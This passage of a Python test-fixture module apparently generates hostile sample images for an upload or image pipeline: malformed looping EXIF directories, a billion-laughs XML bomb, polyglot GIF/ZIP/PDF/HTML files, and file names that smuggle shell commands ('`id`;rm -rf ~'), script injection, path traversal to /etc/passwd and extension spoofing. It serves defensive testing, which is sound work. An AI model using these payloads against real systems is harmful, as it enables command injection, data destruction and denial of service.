        format,
        exif=exif.tobytes(),
        icc_profile=profile_with_canary(),
        xmp=xmp("xmp"),
    )


CANARIES: dict[str, Maker] = {
    "canaries.jpg": jpeg_with_canaries,
    "canaries.png": png_with_canaries,
    "canaries.webp": lambda: other_with_canaries("WEBP"),
    "canaries.avif": lambda: other_with_canaries("AVIF"),
    "canaries.heic": lambda: other_with_canaries("HEIF"),
}


def as_upright(picture: Image.Image, orientation: int, format: str) -> bytes:
    """Return the picture stored turned, with the orientation that undoes it."""
    undo = {
        1: None,
        2: Image.Transpose.FLIP_LEFT_RIGHT,
        3: Image.Transpose.ROTATE_180,
        4: Image.Transpose.FLIP_TOP_BOTTOM,
        5: Image.Transpose.TRANSPOSE,
        6: Image.Transpose.ROTATE_90,
        7: Image.Transpose.TRANSVERSE,
        8: Image.Transpose.ROTATE_270,
    }[orientation]
    stored = picture if undo is None else picture.transpose(undo)
    exif = Image.Exif()
    exif[0x0112] = orientation
    # As bytes: pillow-heif writes its own turn from it, as phones do, and leaves
    # the EXIF one standing beside it.
    return saved(stored, format, exif=exif.tobytes(), quality=90)


# --- one sample of each kind that Pillow can open -----------------------------------


def _as(format: str, mode: str = "RGB") -> Maker:
    return lambda: saved(drawn(256, 256).convert(mode), format)


def _begins(head: bytes, at: int = 0) -> Maker:
    """Return a maker of bytes that Pillow's plugin takes for its own kind."""
    return lambda: bytes(at) + head + bytes(4096)


#: By Pillow's name of the plugin; those of the kinds that are taken are elsewhere.
OF_EACH_PLUGIN: dict[str, Maker] = {
    "BLP": _as("BLP", "P"),
    "BMP": _as("BMP"),
    "BUFR": _begins(b"BUFR"),
    "CUR": _begins(b"\x00\x00\x02\x00\x01\x00\x20\x20"),
    "DCX": _begins(struct.pack("<I", 0x3ADE68B1)),
    "DDS": _as("DDS"),
    "DIB": _as("DIB"),
    "EPS": _as("EPS"),
    "FITS": _begins(b"SIMPLE  =                    T"),
    "FLI": _begins(struct.pack("<IHHHHHHH", 4224, 0xAF12, 1, 256, 256, 8, 3, 0)),
    "FTEX": _begins(b"FTEX"),
    "GBR": _begins(struct.pack(">IIIII", 28, 2, 256, 256, 4)),
    "GIF": _as("GIF", "P"),
    "GRIB": _begins(b"GRIB\x00\x00\x00\x01"),
    "HDF5": _begins(b"\x89HDF\r\n\x1a\n"),
    "ICNS": _as("ICNS"),
    "ICO": _as("ICO"),
    "IM": _begins(b"Image type: RGB image\r\nImage size (x*y): 256*256\r\n"),
    "IMT": lambda: b"*name holiday\nwidth 256\nheight 256\n\x0c" + bytes(65536),
    "IPTC": _begins(b"\x1c\x02\x00\x00\x02\x00\x04"),
    "JPEG2000": _as("JPEG2000"),
    "MCIDAS": _begins(b"\x00\x00\x00\x00\x00\x00\x00\x04"),
    "MPEG": _begins(b"\x00\x00\x01\xb3\x10\x01\x00\x13"),
    "MSP": _as("MSP", "1"),
    "PCD": _begins(b"PCD_IPI", at=2048),
    "PCX": _as("PCX"),
    "PIXAR": _begins(b"\x80\xe8\x00\x00"),
    "PPM": _as("PPM"),
    "PSD": _begins(b"8BPS\x00\x01"),
    "QOI": _as("QOI"),
    "SGI": _as("SGI"),
    "SPIDER": _as("SPIDER", "F"),
    "SUN": _begins(b"\x59\xa6\x6a\x95" + struct.pack(">II", 256, 256)),
    "TGA": _as("TGA"),
    "TIFF": _as("TIFF"),
    "WMF": _begins(b"\xd7\xcd\xc6\x9a\x00\x00"),
    "XBM": _as("XBM", "1"),
    "XPM": _begins(b'/* XPM */\nstatic char *x[] = {\n"256 256 2 1",\n'),
    "XVTHUMB": _begins(b"P7 332\n#END_OF_COMMENTS\n80 60 255\n"),
}


# --- metadata that turns in circles, and files that are two things -------------------


def _tiff(*directory: bytes, follows: int = 0) -> bytes:
    """Return a TIFF header and one directory; ``follows`` points to the next."""
    count = struct.pack("<H", len(directory))
    return (
        b"II*\x00\x08\x00\x00\x00"
        + count
        + b"".join(directory)
        + struct.pack("<I", follows)
    )


def _entry(tag: int, kind: int, count: int, value: int) -> bytes:
    return struct.pack("<HHII", tag, kind, count, value)


LOOPS: dict[str, bytes] = {
    "next_is_itself": _tiff(_entry(0x0112, 3, 1, 1), follows=8),
    "camera_is_itself": _tiff(_entry(0x8769, 4, 1, 8)),
    "location_is_itself": _tiff(_entry(0x8825, 4, 1, 8), _entry(0x8769, 4, 1, 8)),
    "thumbnails_in_a_ring": _tiff(_entry(0x014A, 4, 1, 8), follows=8),
    "four_billion_values": _tiff(_entry(0x010F, 2, 0xFFFFFFFF, 8)),
    "value_behind_the_end": _tiff(_entry(0x010F, 2, 1000, 0xFFFFFF00)),
    "thousands_of_entries": _tiff(*[_entry(0x010F, 2, 60_000, 8)] * 5000),
    "orientation_of_999": _tiff(_entry(0x0112, 3, 1, 999)),
    "orientation_of_text": _tiff(_entry(0x0112, 2, 4, 0x41414141)),
    "no_directory": b"II*\x00\xff\xff\xff\x7f",
    "no_header": b"CANARY" * 100,
}


def loop_in_jpeg(name: str) -> bytes:
    block = b"Exif\x00\x00" + LOOPS[name]
    return jpeg_with(picture_bytes(400, 300), segment(0xE1, block[:65_000]))


def loop_in_png(name: str) -> bytes:
    return png(400, 300, chunk(b"eXIf", LOOPS[name]), depth=8, colour=2)


def billion_laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    packet = (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{entities}]>'
        "<x:xmpmeta xmlns:x='adobe:ns:meta/'>&l11;</x:xmpmeta>"
    ).encode()
    block = b"http://ns.adobe.com/xap/1.0/\x00" + packet
    return jpeg_with(picture_bytes(400, 300), segment(0xE1, block))


def motion_photo() -> bytes:
    film = struct.pack(">I", 24) + b"ftypmp42\x00\x00\x00\x00isommp42"
    return picture_bytes(400, 300) + film + b"CANARY of the film" * 2000


def page_in_png(page: bytes) -> bytes:
    text = chunk(b"tEXt", b"Comment\x00" + page)
    return png(400, 300, text, depth=8, colour=2) + page


PAGE = b"<!DOCTYPE html><script>fetch('//x/'+'CANARY')</script><?php id(); ?>"

ODD_BUT_HONEST: dict[str, Maker] = {
    **{f"exif_{n}.jpg": (lambda n=n: loop_in_jpeg(n)) for n in LOOPS},
    **{f"exif_{n}.png": (lambda n=n: loop_in_png(n)) for n in LOOPS},
    "billion_laughs.jpg": billion_laughs,
    "motion_photo.jpg": motion_photo,
    "page.png": lambda: page_in_png(PAGE),
    "page.webp.html": lambda: picture_bytes(400, 300, format="WEBP") + PAGE,
    "script.js": lambda: jpeg_with(
        picture_bytes(400, 300), segment(0xFE, b"=1;/*CANARY*/alert(1)//")
    ),
    "archive.zip": lambda: picture_bytes(400, 300) + b"PK\x03\x04CANARY" + bytes(99),
    "broken_profile.jpg": lambda: saved(
        drawn(400, 300), "JPEG", icc_profile=b"CANARY" * 50
    ),
    "picture_in_picture.jpg": lambda: jpeg_with(
        picture_bytes(400, 300),
        segment(0xE0, b"JFXX\x00\x10" + picture_bytes(200, 200)[:20_000]),
    ),
}

TWO_THINGS: dict[str, tuple[Maker, str]] = {
    "gifar.gif": (lambda: gif(1) + b"PK\x03\x04" + bytes(99), "unsupported_format"),
    "paper_with_picture.jpg": (
        lambda: b"%PDF-1.7\n" + picture_bytes(400, 300),
        "not_a_picture",
    ),
    "page_with_picture.jpg": (lambda: PAGE + picture_bytes(400, 300), "not_a_picture"),
    "archive_with_picture.jpg": (
        lambda: b"PK\x03\x04" + bytes(26) + picture_bytes(400, 300),
        "not_a_picture",
    ),
}

#: Names as phones, foreign systems and attackers give them.
NAMES = (
    "IMG_0001.HEIC.jpg",
    "Über uns – 50 % größer.jpg",
    "照片 (1).jpeg",
    "🌻🌻🌻.png",
    " leading and trailing .jpg ",
    "no extension",
    "a" * 240 + ".jpg",
    "CON.jpg",
    "photo.jpg.exe",
    "photo.php",
    "$(id).jpg",
    "`id`;rm -rf ~.jpg",
    "'quoted' \"twice\".jpg",
    "<script>alert(1)</script>.jpg".replace("/", "∕"),
    "%00%2e%2e%2fetc%2fpasswd.jpg",
    "..jpg",
    "photo\u202egpj.exe",
    "line\nbreak.jpg",
    "tab\there.jpg",
    "bell\x07.jpg",
)
